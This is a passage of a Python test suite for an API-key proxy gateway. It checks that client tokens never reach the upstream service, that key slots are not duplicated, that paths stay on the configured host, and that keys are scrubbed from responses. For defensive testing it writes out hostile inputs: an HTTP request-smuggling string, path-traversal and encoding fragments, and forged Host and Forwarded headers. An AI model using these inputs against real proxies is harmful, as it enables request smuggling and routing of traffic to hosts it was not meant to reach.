        ("/openai/v1/models", {"X-Wallet-Token": t, "Proxy-Authorization": basic(t)}),
        ("/openai/v1/models", {"X-Wallet-Token": t, "X-Wallet-Other": t}),
        # SDKs of header-keyed APIs put their key (here: the token) in their own header
        ("/openai/v1/models", {"X-Wallet-Token": t, "X-Goog-Api-Key": t, "api-key": t}),
        ("/openai/v1/models", {"X-Wallet-Token": t, "X-Custom": f"token={t}"}),
        ("/openai/v1/models", {"X-Wallet-Token": t, "Authorization": "Bearer sk-junk"}),
        (
            "/openai/v1/models",
            [("X-Wallet-Token", t), ("Authorization", "Bearer a"), ("authorization", "Basic b")],
        ),
    ]
    for path, headers in attempts:
        resp = await gw.get(path, headers=headers)
        assert resp.status == 200, (path, headers, await resp.text())
        assert t not in seen_text(wired), (path, headers)
        seen = wired.upstream.seen[-1]
        assert seen.headers.getall("Authorization") == [f"Bearer {OPENAI_KEY}"]
        assert seen_text(wired).count(OPENAI_KEY) == 1, (path, headers)
    resp = await gw.post(
        "/proxy",
        headers={"Authorization": f"Bearer {t}"},
        json={
            "service": "openai",
            "endpoint": f"/v1/models?key={t}",
            "query": {"token": t},
            "headers": {
                "Authorization": "Bearer sk-junk",
                "authorization": "Basic x",
                "X-Wallet-Token": t,
                "X-Other": t,
            },
        },
    )
    assert resp.status == 200, await resp.text()
    assert wired.upstream.seen[-1].headers.getall("Authorization") == [f"Bearer {OPENAI_KEY}"]
    assert t not in seen_text(wired)


async def test_envelope_content_length_cannot_cut_or_stall_the_body(wired: Wired) -> None:
    """The gateway encodes the envelope's body: a client-sent Content-Length would truncate it
    (and what follows could be read by the upstream as a second request) or stall it."""
    smuggled = "GET /smuggled HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"
    for length in ("0", "3", "99999"):
        resp = await wired.gateway.post(
            "/proxy",
            headers={"X-Wallet-Token": wired.token},
            json={
                "service": "openai",
                "endpoint": "/v1/x",
                "method": "POST",
                "headers": {"Content-Length": length, "Content-Type": "text/plain"},
                "body": smuggled,
            },
            timeout=ClientTimeout(total=IO_TIMEOUT_S),
        )
        assert resp.status == 200, await resp.text()
        assert wired.upstream.seen[-1].body == smuggled.encode()
    assert all("smuggled" not in seen.path for seen in wired.upstream.seen)


async def test_query_slot_replaced_not_duplicated(
    admin_client: TestClient[Any, Any],
    gateway_client: TestClient[Any, Any],
    as_admin: dict[str, str],
    upstream_server: Any,
) -> None:
    for service, key, slot in (
        ("openweather", WEATHER_KEY, "appid"),
        ("googlemaps", MAPS_KEY, "key"),
    ):
        w = await wire(
            admin_client, gateway_client, as_admin, upstream_server, service, key, f"query:{slot}"
        )
        t = w.token
        hdr = {"X-Wallet-Token": t}
        attempts: list[tuple[str, dict[str, str]]] = [
            (f"q=1&{slot}={t}", {}),
            (f"{slot}={t}&q=1&{slot}=junk", {}),
            (f"{slot}=junk&q=1", hdr),
            (f"{slot}=junk&{slot}=more&q=1", {"Authorization": f"Bearer {t}"}),
            (f"%{ord(slot[0]):02x}{slot[1:]}=junk&q=1", hdr),
            (f"%{ord(slot[0]):02X}{slot[1:]}=junk&q=1", hdr),
            (f"{slot}&q=1", hdr),
            (f"{slot}=&q=1", hdr),
            (f"q=1&other={t}&{slot}={t}", {}),
            (f"q=1&{slot}={quote(t, safe='')}", {}),
        ]
        for query, headers in attempts:
            resp = await gateway_client.get(f"/{service}/v1/x?{query}", headers=headers)
            assert resp.status == 200, (query, await resp.text())
            seen = w.upstream.seen[-1]
            pairs = parse_qsl(seen.raw_path.partition("?")[2], keep_blank_values=True)
            assert [v for k, v in pairs if k == slot] == [key], (query, pairs)
            assert ("q", "1") in pairs
            assert t not in seen_text(w), query
            assert key not in str(list(seen.headers.items()))
        # the envelope: inner headers and query can't smuggle the token or a second key
        resp = await gateway_client.post(
            "/proxy",
            headers={"X-Wallet-Token": t},
            json={
                "service": service,
                "endpoint": f"/v1/x?{slot}=junk&a={t}",
                "query": {slot: ["junk", t], "b": t, "q": "1"},
                "headers": {"Authorization": f"Bearer {t}", "X-Wallet-Token": t},
            },
        )
        assert resp.status == 200, await resp.text()
        pairs = parse_qsl(w.upstream.seen[-1].raw_path.partition("?")[2], keep_blank_values=True)
        assert [v for k, v in pairs if k == slot] == [key], pairs
        assert t not in seen_text(w)


async def test_header_and_basic_slots_replaced_not_duplicated(
    admin_client: TestClient[Any, Any],
    gateway_client: TestClient[Any, Any],
    as_admin: dict[str, str],
    upstream_server: Any,
) -> None:
    await custom_service(
        admin_client, as_admin, "acme-header", {"type": "header", "name": "X-Api-Key"}
    )
    await custom_service(admin_client, as_admin, "acme-basic", {"type": "basic"})
    w = await wire(
        admin_client,
        gateway_client,
        as_admin,
        upstream_server,
        "acme-header",
        HEADER_KEY,
        "header:X-Api-Key",
    )
    t = w.token
    attempts: list[Any] = [
        {"X-Api-Key": t},
        {"X-Wallet-Token": t, "X-Api-Key": "junk"},
        [("X-Wallet-Token", t), ("x-api-key", "junk"), ("X-API-KEY", "more")],
        {"Authorization": f"Bearer {t}", "X-Api-Key": "junk"},
        {"Authorization": basic(t)},
    ]
    for headers in attempts:
        resp = await gateway_client.get("/acme-header/v1/x", headers=headers)
        assert resp.status == 200, (headers, await resp.text())
        seen = w.upstream.seen[-1]
        assert seen.headers.getall("X-Api-Key") == [HEADER_KEY], headers
        assert "Authorization" not in seen.headers
        assert t not in seen_text(w)
    resp = await gateway_client.post(
        "/proxy",
        headers={"X-Wallet-Token": t},
        json={
            "service": "acme-header",
            "endpoint": "/v1/x",
            "headers": {"X-Api-Key": "junk", "x-api-key": t, "Authorization": f"Bearer {t}"},
        },
    )
    assert resp.status == 200, await resp.text()
    assert w.upstream.seen[-1].headers.getall("X-Api-Key") == [HEADER_KEY]
    assert t not in seen_text(w)

    b = await wire(
        admin_client, gateway_client, as_admin, upstream_server, "acme-basic", BASIC_KEY, "basic"
    )
    for headers in (
        {"Authorization": basic(b.token)},
        {"Authorization": "Basic " + base64.b64encode(f"user:{b.token}".encode()).decode()},
        {"X-Wallet-Token": b.token, "Authorization": basic("someone-else")},
    ):
        resp = await gateway_client.get("/acme-basic/v1/x", headers=headers)
        assert resp.status == 200, (headers, await resp.text())
        seen = b.upstream.seen[-1]
        assert seen.headers.getall("Authorization") == [basic(BASIC_KEY)]
        assert b.token not in sent_key(seen.raw_path, seen.headers)


# --- the pure parts, exhaustively ------------------------------------------------------------

PIECES = [
    "v1", "x", ".", "..", "%2e", "%2E", "%2e%2e", ".%2e", "%2f", "%2F", "%5c", "\\", "@",
    "%40", ":", "127.0.0.2:1", "//", "/", ";", "%00", "%252e", "?", "#", "%23", "http:",
    "%0d%0a", "~", "%c0%ae", "\uff0e", " ",
]  # fmt: skip


def random_paths(count: int, seed: int) -> Iterable[str]:
    rng = random.Random(seed)
    for _ in range(count):
        yield "/" + "".join(rng.choice(PIECES) + rng.choice(["", "/"]) for _ in range(6))


@pytest.mark.parametrize(
    "base_url", ["http://127.0.0.1:8080", "http://127.0.0.1:8080/base", "https://api.x.com/v1/"]
)
def test_upstream_url_keeps_the_configured_host_for_any_path(base_url: str) -> None:
    from yarl import URL

    base = URL(base_url)
    base_path = base.path.rstrip("/")
    accepted = 0
    for path in random_paths(3000, seed=len(base_url)):
        raw = quote(path, safe="/%:@;~")
        try:
            url = routing.upstream_url(base_url, raw, "a=1")
        except routing.BadPath:
            continue
        accepted += 1
        assert (url.scheme, url.host, url.port) == (base.scheme, base.host, base.port), raw
        assert url.raw_path.startswith(base_path + "/") or url.raw_path == (base_path or "/")
        for candidate in (url.path, unquote(url.raw_path)):
            resolved = posixpath.normpath(candidate.replace("\\", "/"))
            assert resolved == base_path or resolved.startswith(base_path + "/"), raw
        # re-parsed (as a string, the way a careless client would), still the same place
        again = URL(str(url))
        assert (again.host, again.port) == (base.host, base.port), raw
        resolved = posixpath.normpath(again.path)
        assert resolved == (base_path or "/") or resolved.startswith(base_path + "/"), raw
    assert accepted > 100


def test_envelope_endpoint_is_always_a_path_on_the_service() -> None:
    rng = random.Random(7)
    alphabet = [*PIECES, "http://127.0.0.2", "https:", "//127.0.0.2", "\t", "\r\n"]
    accepted = 0
    for _ in range(3000):
        endpoint = "".join(rng.choice(alphabet) for _ in range(rng.randint(1, 6)))
        try:
            path, query = envelope_endpoint(endpoint)
            url = routing.upstream_url("http://127.0.0.1:9/base", path, query)
        except (BadEndpoint, routing.BadPath):
            continue
        accepted += 1
        assert (url.host, url.port) == ("127.0.0.1", 9), endpoint
        assert url.raw_path.startswith("/base/") or url.raw_path == "/base", endpoint
    assert accepted > 20


@pytest.mark.parametrize(
    "slot",
    [
        AuthSlot("bearer", None),
        AuthSlot("basic", None),
        AuthSlot("header", "X-Api-Key"),
        AuthSlot("query", "key"),
    ],
)
def test_inject_never_copies_the_token_or_a_second_key(slot: AuthSlot) -> None:
    token = "AIzaWT_" + "t" * 43
    key = Secret("real-key-" + "k" * 20)
    incoming = CIMultiDict(
        [
            ("Authorization", f"Bearer {token}"),
            ("authorization", "Basic junk"),
            ("X-Wallet-Token", token),
            ("X-Api-Key", "junk"),
            ("x-api-key", token),
            ("Host", "127.0.0.2"),
            ("X-Forwarded-Host", "127.0.0.2"),
            ("Forwarded", "host=127.0.0.2"),
            ("X-Wallet-Anything", "x"),
            ("Accept", "application/json"),
        ]
    )
    out = upstream_headers(incoming, slot, key)
    assert token not in str(list(out.items()))
    assert not {"host", "x-forwarded-host", "forwarded", "x-wallet-anything"} & {
        k.lower() for k in out
    }
    assert out["Accept"] == "application/json"
    query = upstream_query(f"key=junk&q=1&key={token}&other={quote(token)}&k%65y=x", slot, key)
    assert token not in query
    in_headers = sum(key.reveal() in v for v in out.values()) + sum(
        base64.b64encode(f"{key.reveal()}:".encode()).decode() in v for v in out.values()
    )
    in_query = query.count(quote(key.reveal(), safe=""))
    assert in_headers + in_query == 1
    if slot.type == "query":
        assert [v for k, v in parse_qsl(query) if k == "key"] == [key.reveal()]


@pytest.mark.parametrize(
    "key", [OPENAI_KEY, WEATHER_KEY, "k/+= with space:and\u00e9", "ab", "aaaa", "abab"]
)
def test_scrubber_catches_every_split(key: str) -> None:
    """Random bodies holding the key (and near misses), cut at random points: the output is
    the body with every occurrence replaced, and nothing else changed."""
    rng = random.Random(key)
    forms = [key.encode(), quote(key, safe="").encode()]
    for _ in range(300):
        pieces = []
        for _ in range(rng.randint(1, 5)):
            pieces.append(rng.choice([b"x", b"data: ", b"\n\n", forms[0][:-1], forms[0][1:]]))
            if rng.random() < 0.6:
                pieces.append(rng.choice(forms))
        body = b"".join(pieces)
        expected = body
        for form in sorted(set(forms), key=len, reverse=True):
            expected = expected.replace(form, REDACTED)
        cuts = sorted(rng.sample(range(len(body) + 1), k=min(len(body) + 1, rng.randint(0, 8))))
        scrubber = Scrubber(key)
        out = b""
        last = 0
        for cut in [*cuts, len(body)]:
            out += scrubber.feed(body[last:cut])
            last = cut
        out += scrubber.flush()
        assert key.encode() not in out
        if len(key) > 4:  # tiny keys may overlap themselves; only demand their absence
            assert out == expected, (body, cuts)


def test_response_headers_scrub_every_form_of_the_key() -> None:
    forms = key_forms(BASIC_KEY)
    upstream = CIMultiDict(
        [
            ("Location", f"https://x.example/?key={quote(BASIC_KEY, safe='')}"),
            ("X-Echo", f"Basic {base64.b64encode(f'{BASIC_KEY}:'.encode()).decode()}"),
            ("X-Plain", BASIC_KEY),
            ("Set-Cookie", f"k={BASIC_KEY}"),
            ("Connection", "close"),
        ]
    )
    out = response_headers(upstream.copy(), forms)  # type: ignore[arg-type]
    text = str(list(out.items()))
    assert BASIC_KEY not in text
    assert base64.b64encode(f"{BASIC_KEY}:".encode()).decode() not in text
    assert "set-cookie" not in {k.lower() for k in out}
    assert "connection" not in {k.lower() for k in out}


def test_response_reason_is_scrubbed() -> None:
    forms = key_forms(OPENAI_KEY)
    assert response_reason(f"Invalid key {OPENAI_KEY}", forms) == "Invalid key [redacted]"
    assert response_reason("OK", forms) == "OK"
    assert response_reason(None, forms) is None
